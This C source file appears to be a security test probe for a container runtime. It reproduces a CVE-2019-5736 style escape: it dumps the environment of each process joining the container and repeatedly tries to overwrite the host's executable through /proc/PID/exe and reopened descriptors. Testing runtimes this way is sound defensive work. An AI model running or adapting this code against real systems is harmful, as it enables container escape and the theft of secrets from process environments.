/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Test probe, run inside a container that holds CAP_SYS_PTRACE: what an
 * attacker does to a process joining it (petra exec), CVE-2019-5736
 * style. For every new process it prints its environment ("ENVIRON PID
 * [ARGV0] ...") and keeps its executable open through /proc/PID/exe; it tries to
 * open that for writing at once and, again and again, by reopening the
 * kept descriptor through /proc/self/fd once the joining process is gone
 * (the host's binary is then no longer busy). Each write that lands is
 * reported as "WROTE PID"; runs until killed.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 256

static struct {
	int pid, exe;
} seen[MAX_PIDS];
static size_t n_seen;

static bool is_new(int pid)
{
	for (size_t i = 0; i < n_seen; i++)
		if (seen[i].pid == pid)
			return false;
	return n_seen < MAX_PIDS;
}

static void try_write(const char *path, int pid)
{
	int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (w < 0)
		return;
	if (write(w, "#hijacked\n", 10) == 10)
		printf("WROTE %d through %s\n", pid, path);
	close(w);
}

/* The first word of PID's command line, "?" if unreadable. */
static void first_arg(int pid, char *out, size_t size)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, out, size - 1);
	if (fd >= 0)
		close(fd);
	out[n > 0 ? n : 0] = '\0';
	if (n <= 0)
		snprintf(out, size, "?");
}

static void grab(int pid)
{
	char path[64], env[65536], arg0[256];
	first_arg(pid, arg0, sizeof(arg0));
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	int e = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = e < 0 ? -1 : read(e, env, sizeof(env) - 1);
	if (e >= 0)
		close(e);
	if (n > 0) {
		for (ssize_t i = 0; i < n; i++)
			if (!env[i])
				env[i] = ' ';
		env[n] = '\0';
		printf("ENVIRON %d [%s] %s\n", pid, arg0, env);
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	try_write(path, pid);
	seen[n_seen].pid = pid;
	seen[n_seen++].exe = open(path, O_RDONLY | O_CLOEXEC);
}

int main(void)
{
	int self = getpid();
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("watching");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *de;
		while (proc && (de = readdir(proc))) {
			int pid = atoi(de->d_name);
			if (pid > 1 && pid != self && is_new(pid))
				grab(pid);
		}
		if (proc)
			closedir(proc);
		for (size_t i = 0; i < n_seen; i++) {
			char path[64];
			if (seen[i].exe < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i].exe);
			try_write(path, seen[i].pid);
		}
		struct timespec ts = {0, 200 * 1000};
		nanosleep(&ts, NULL);
	}
}
